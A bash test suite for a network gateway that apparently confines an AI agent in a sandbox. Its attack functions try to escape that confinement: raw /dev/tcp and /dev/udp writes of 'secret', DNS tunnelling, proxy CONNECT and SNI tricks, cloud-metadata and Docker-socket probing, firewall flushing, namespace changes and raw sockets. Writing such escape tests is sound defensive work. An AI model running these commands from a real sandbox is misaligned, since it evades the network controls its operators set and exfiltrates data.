# SPDX-License-Identifier: MIT
# shellcheck shell=bash disable=SC2016,SC2034,SC2154
# NET: a sandbox with the gateway on a network of the test's own (tests/gateway/world.sh), whose servers
# log who came. Every attack also asks an allowed server, so that silence means refusal, not a dead network.

FETCH=(curl -sS --max-time 3 --cacert "${W:-}/cert.pem")
PROXY=127.0.0.1:3128

# On the host only: the agent reads this file too.
if declare -F one_attack >/dev/null; then
  # shellcheck source=tests/gateway/world.sh
  . "$CLAUDEFS_SOURCE/tests/gateway/world.sh"
fi

# As the agent: an allowed server answers.
still_reaches() { echo; "${FETCH[@]}" https://allowed.example/; }
# tunnel HOST:PORT [BYTES]: what the proxy says to CONNECT, then what comes for BYTES.
tunnel() {
  exec 3<>"/dev/tcp/${PROXY%:*}/${PROXY#*:}" || return
  printf 'CONNECT %b HTTP/1.1\r\n\r\n%b' "$1" "${2:-}" >&3
  timeout 3 cat <&3
  exec 3<&-
}

# On the host, after the commit.
nothing_arrived() {
  has_line "$INSIDE" '^hello from allowed\.example' || return
  # From the last attack's end on.
  mv "$REACHED" "$WORK/arrived" || return
  : >"$REACHED"
  ! grep -v 'allowed\.example\|connection 93\.184\.216\.34:443$\|connection ::ffff:93\.184\.216\.34:443$' "$WORK/arrived" | head -n 5 | grep . ||
    { echo 'something arrived'; return 1; }
}
log_says() { grep -qF -e "$1" "$HOME"/.local/state/claudefs/sessions/*/network.log || { echo "the log does not say: $1"; return 1; }; }

attack_NET_001() {
  for address in 93.184.216.35:443 93.184.216.35:80 8.8.8.8:443 10.1.2.3:443; do
    try "${FETCH[@]}" -k --noproxy '*' "https://$address/"
    try timeout 2 bash -c "echo secret >/dev/tcp/${address%:*}/${address#*:}"
    tunnel "$address"
  done
  still_reaches
}
expect_NET_001() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && log_says '93.184.216.35'; }

attack_NET_003() {
  for address in 2606:2800:220:1::34 ::ffff:93.184.216.35 64:ff9b::5db8:d823 fe80::1%25lo ::1; do
    try "${FETCH[@]}" -k -6 --noproxy '*' "https://[$address]/"
    try "${FETCH[@]}" -k "https://[$address]/"
  done
  cat /proc/net/if_inet6 /proc/net/ipv6_route
  still_reaches
}
expect_NET_003() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && has_no_line "$INSIDE" ' (eth|veth|en)'; }

attack_NET_005() {
  for port in 53 853 443; do try timeout 2 bash -c "echo secret >/dev/tcp/8.8.8.8/$port"; done
  for target in 8.8.8.8/53 8.8.8.8/853 8.8.8.8/443 224.0.0.251/5353 224.0.0.252/5355; do
    # A first datagram is taken and refused; the second one says so.
    try timeout 2 bash -c "exec 3>/dev/udp/$target && echo secret >&3 && echo secret >&3"
  done
  try "${FETCH[@]}" -k 'https://8.8.8.8/dns-query?dns=c2VjcmV0'
  try "${FETCH[@]}" -k 'https://dns.denied.example/dns-query?dns=c2VjcmV0'
  try timeout 3 getent hosts secret-data.denied.example
  tunnel 8.8.8.8:53
  tunnel allowed.example:853
  # By the name service of the sandbox itself, which sends nothing on.
  for name in c2VjcmV0.denied.example c2VjcmV0.allowed.example c2VjcmV0; do
    try timeout 3 getent ahosts "$name"
    try timeout 3 bash -c "exec 3<>/dev/udp/127.0.0.1/53; printf '\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x08c2VjcmV0\x06denied\x07example\0\0\x10\0\x01' >&3;
      head -c 4 <&3 | tail -c 1 | od -An -tx1 | grep -q 0\$"
  done
  try timeout 3 bash -c 'echo secret >/dev/tcp/127.0.0.1/53'
  still_reaches
}
expect_NET_005() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && log_says 'c2vjcmv0.denied.example'; }

attack_NET_006() {
  try timeout 2 bash -c 'echo secret >/dev/udp/127.0.0.11/53'
  try timeout 2 bash -c 'echo secret >/dev/tcp/127.0.0.11/53'
  tunnel 127.0.0.11:53
  cat /etc/resolv.conf
  still_reaches
}
# (A datagram to an own address is accepted and thrown away by the kernel: nothing listens.)
expect_NET_006() { nothing_arrived && has_no_line "$INSIDE" '^0 .*tcp'; }

attack_NET_008() {
  for sni in '-noservername' '-servername denied.example' '-servername 93.184.216.34'; do
    # shellcheck disable=SC2086
    try bash -c "echo | timeout 3 openssl s_client -proxy $PROXY -connect allowed.example:443 -verify_return_error -CAfile '$W/cert.pem' $sni"
  done
  try "${FETCH[@]}" --connect-to denied.example:443:allowed.example:443 https://denied.example/
  try "${FETCH[@]}" -k https://93.184.216.34/
  # The same without the proxy, to the address that the name has in here.
  for sni in '-noservername' '-servername denied.example' '-servername 93.184.216.34'; do
    # shellcheck disable=SC2086
    try bash -c "echo | timeout 3 openssl s_client -connect allowed.example:443 -verify_return_error -CAfile '$W/cert.pem' $sni"
  done
  try "${FETCH[@]}" --noproxy '*' --connect-to denied.example:443:allowed.example:443 https://denied.example/
  try "${FETCH[@]}" --noproxy '*' --resolve denied.example:443:198.19.0.0 -k https://denied.example/
  try "${FETCH[@]}" --noproxy '*' -f -H 'Host: denied.example' http://allowed.example/
  still_reaches
}
expect_NET_008() {
  nothing_arrived && has_no_line "$INSIDE" '^0 ' && log_says 'TLS names no server' && log_says 'TLS names another server' &&
    log_says 'only names pass'
}

# Not claimed: what an allowed host is told inside TLS is between it and the agent (docs/THREAT-MODEL.md).
attack_NET_010() {
  echo 'NOT-RUN: TLS is not broken open: an allowed host is trusted with what is sent to it'
  still_reaches
}

attack_NET_011() {
  for name in evilallowed.example allowed.example.denied.example wild.example xwild.example a.wild.example.denied.example \
    'allowed.example\\0.denied.example' allowed.example..denied.example 'allowed\xe3\x80\x82example' '*.wild.example' \
    'denied.example@allowed.example' 'allowed.example%2edenied.example' 'allowed.example,denied.example' 'allowed.example denied.example'; do
    tunnel "$name:443"
  done
  still_reaches
}
expect_NET_011() { nothing_arrived && has_no_line "$INSIDE" '^HTTP/1.1 200'; }

attack_NET_013() {
  # A relay of the agent's own in front of the proxy; what it asks for is decided the same.
  node -e '
    const net = require("net");
    net.createServer((c) => { const p = net.connect(3128, "127.0.0.1"); c.pipe(p); p.pipe(c); c.on("error", () => {}); p.on("error", () => {}); })
      .listen(9999, "127.0.0.1", () => console.log("relaying"));
    setTimeout(() => process.exit(), 8000);' &
  for _ in $(seq 50); do (: </dev/tcp/127.0.0.1/9999) 2>/dev/null && break; sleep 0.05; done
  try "${FETCH[@]}" -k -x http://127.0.0.1:9999 https://denied.example/
  exec 3<>/dev/tcp/127.0.0.1/9999
  printf 'CONNECT allowed.example:443 HTTP/1.1\r\n\r\nCONNECT denied.example:443 HTTP/1.1\r\n\r\n' >&3
  timeout 3 cat <&3
  kill $!
  still_reaches
}
expect_NET_013() { nothing_arrived && has_line "$INSIDE" '^relaying' && has_no_line "$INSIDE" '^0 ' && log_says 'denied.example'; }

attack_NET_015() { still_reaches; }
expect_NET_015() {
  nothing_arrived || return
  local line
  for line in '0.0.0.0/0' '*' '*.com.' '@unknown' 'a b' '1.2.3.4' 'https://x.example/' 'x.example:443' '.example' 'x..example' \
    'exa\x01mple.org' '*.*.example' 'x.example private private' '\xff\xfe' "$(printf 'a%.0s' {1..64}).example" ; do
    printf 'allowed.example\n%b\n' "$line" >"$WORK/bad.allow"
    "$RUN_PROGRAM" --network gateway --egress "$WORK/bad.allow" --commit never "$PROJECT" --exec true </dev/null >"$WORK/said" 2>&1
    [ $? -eq 8 ] || { printf 'taken: %s: %s\n' "$line" "$(head -n 1 "$WORK/said")"; return 1; }
    grep -qF 'bad.allow:2:' "$WORK/said" || { printf 'not named: %s\n' "$(cat "$WORK/said")"; return 1; }
  done
}

attack_NET_016() {
  for name in private.example rebound.example metadata.example engine.example; do
    try "${FETCH[@]}" -k -f "https://$name/"
    try "${FETCH[@]}" -f "http://$name/latest/meta-data/"
    try "${FETCH[@]}" --noproxy '*' -k -f "https://$name/"
    try "${FETCH[@]}" --noproxy '*' -f "http://$name/latest/meta-data/"
  done
  still_reaches
}
expect_NET_016() { nothing_arrived && has_no_line "$INSIDE" '^0 ' && log_says 'private, local or reserved'; }

# The host gives a new list again and again, as long as the attack lasts.
before_NET_018() {
  # Where --reload-firewall looks.
  plant .config/claudefs/egress.allow allowed.example
  RUN_NETWORK=(--network gateway)
  (
    for _ in $(seq 2000); do
      [ ! -e "$PROJECT/.agent/end" ] || break
      "$RUN_PROGRAM" --reload-firewall >>"$WORK/reloads" 2>&1
    done
  ) &
}
attack_NET_018() {
  local i
  for ((i = 0; i < 40; i++)); do
    "${FETCH[@]}" https://allowed.example/ || echo "allowed failed: $?"
    ! "${FETCH[@]}" https://denied.example/ 2>/dev/null || echo 'denied passed'
  done
}
expect_NET_018() {
  nothing_arrived && has_no_line "$INSIDE" '^(allowed failed|denied passed)' && has_line "$WORK/reloads" ': [0-9]+ names'
}

attack_NET_020() {
  for address in 172.17.0.1:2375 192.168.65.7:2375 192.168.65.7:443 127.0.0.1:2375 169.254.169.254:80; do
    try timeout 2 bash -c "echo secret >/dev/tcp/${address%:*}/${address#*:}"
    tunnel "$address"
  done
  for name in host.docker.internal gateway.docker.internal host.orb.internal engine.example; do tunnel "$name:443"; done
  still_reaches
}
expect_NET_020() { nothing_arrived && has_no_line "$INSIDE" '^(0 |HTTP/1.1 200)'; }

before_NET_021() {
  node -e 'require("net").createServer((c) => { require("fs").appendFileSync(process.argv[1], "abstract\n"); c.end("CANARY"); })
    .listen("\0claudefs-canary"); setTimeout(() => process.exit(), 20000);' "$REACHED" &
  stop_at_end $!
}
attack_NET_021() {
  try ls /var/run/docker.sock /run/docker.sock
  try ls /run/containerd/containerd.sock
  try ls /run/podman/podman.sock
  cat /proc/net/unix
  for _ in 1 2 3; do
    try node -e 'require("net").connect("\0claudefs-canary").on("connect", () => { console.log("connected"); process.exit(0); })
      .on("error", () => process.exit(1))'
  done
  still_reaches
}
expect_NET_021() { nothing_arrived && has_no_line "$INSIDE" '^(0 |connected)' && has_no_line "$INSIDE" 'claudefs-canary$'; }

attack_NET_023() {
  tunnel allowed.example:22
  tunnel ssh.allowed.example:22
  tunnel allowed.example:443 'SSH-2.0-OpenSSH_9.2\r\n'
  try timeout 2 bash -c 'echo SSH-2.0-x >/dev/tcp/93.184.216.34/22'
  try timeout 2 bash -c 'echo SSH-2.0-x >/dev/tcp/allowed.example/22'
  timeout 2 bash -c 'exec 3<>/dev/tcp/allowed.example/443; printf "SSH-2.0-x\r\n" >&3; cat <&3'
  still_reaches
}
expect_NET_023() { nothing_arrived && has_no_line "$INSIDE" '^(0 |raw|SSH)' && log_says 'something else than TLS' && log_says 'only port 443'; }

attack_NET_025() {
  try iptables -F
  try nft flush ruleset
  try ip link add dummy0 type dummy
  try ip addr add 93.184.216.99/32 dev lo
  try ip route add default dev lo
  try ip route del local 192.0.0.0/3 dev lo
  try unshare --net true
  try nsenter --net=/proc/1/ns/net ip addr add 93.184.216.99/32 dev lo
  # The file that the gateway listens at is none of the agent's.
  find / -xdev -name 'gate*.sock' 2>/dev/null
  still_reaches
}
expect_NET_025() { nothing_arrived && has_no_line "$INSIDE" '^0 .*(iptables|nft|ip |unshare|addr)' && has_no_line "$INSIDE" '^/.*gate.*sock'; }

attack_NET_026() {
  try perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 255) or exit 1; send($s, "x" x 20, 0, pack_sockaddr_in(0, inet_aton("93.184.216.35")))'
  try perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1; send($s, "x" x 20, 0, pack_sockaddr_in(0, inet_aton("93.184.216.35")))'
  try perl -MSocket -e 'socket(my $s, 17, SOCK_RAW, 768) or exit 1'
  # IP_OPTIONS with a record route, and a TTL of its own.
  try perl -MSocket -e 'socket(my $s, PF_INET, SOCK_STREAM, 6); setsockopt($s, 0, 4, "\x07\x07\x04\0\0\0\0\x01"); setsockopt($s, 0, 2, 1);
    connect($s, pack_sockaddr_in(443, inet_aton("93.184.216.35"))) or exit 1'
  try ping -c 1 -W 1 93.184.216.35
  still_reaches
}
expect_NET_026() { nothing_arrived && has_no_line "$INSIDE" '^0 '; }

attack_NET_028() {
  echo 'NOT-RUN: names and times of files in the project are the agent'\''s to write; who reads them there is outside'
  still_reaches
}

net_world() {
  [ -z "${REACHED:-}" ] || return 0
  make_home
  make_world
  cp "$CERT" "$WORK/world-cert.pem"
  REACHED=$WORK/reached
  WORLD_CERT=$WORK/world-cert.pem
  printf '%s\n' allowed.example '*.wild.example' private.example rebound.example 'metadata.example private' engine.example \
    >"$WORK/egress.allow"
  RUN_NETWORK=(--network gateway --egress "$WORK/egress.allow")
}

net_attacks() {
  enter_world "$ATTACK_DIR/run_family.sh" net "$ONLY"
  net_world
  attack NET-001 run
  attack NET-003 run
  attack NET-005 run
  attack NET-006 run
  attack NET-008 run
  attack NET-010 run not-claimed
  attack NET-011 run
  attack NET-013 run
  attack NET-015 run
  attack NET-016 run
  attack NET-018 run
  attack NET-020 run
  attack NET-021 run
  attack NET-023 run
  attack NET-025 run
  attack NET-026 run
  attack NET-028 run not-claimed
}

# With the host's network, what may not be reached is.
before_NET_C01() { RUN_NETWORK=(--network host); }
attack_NET_C01() {
  curl -sS -k --noproxy '*' --max-time 3 https://93.184.216.35/
  still_reaches
}
expect_NET_C01() { nothing_arrived; }
# With a list that names it, an exfiltration's host is reached.
before_NET_C02() {
  echo denied.example >>"$WORK/wide.allow"
  echo allowed.example >>"$WORK/wide.allow"
  RUN_NETWORK=(--network gateway --egress "$WORK/wide.allow")
}
attack_NET_C02() {
  "${FETCH[@]}" https://denied.example/
  still_reaches
}
expect_NET_C02() { nothing_arrived; }

net_control() {
  enter_world "$ATTACK_DIR/run_family.sh" net control
  net_world
  must_be_unsafe NET-C01 run 'something arrived'
  must_be_unsafe NET-C02 run 'something arrived'
}
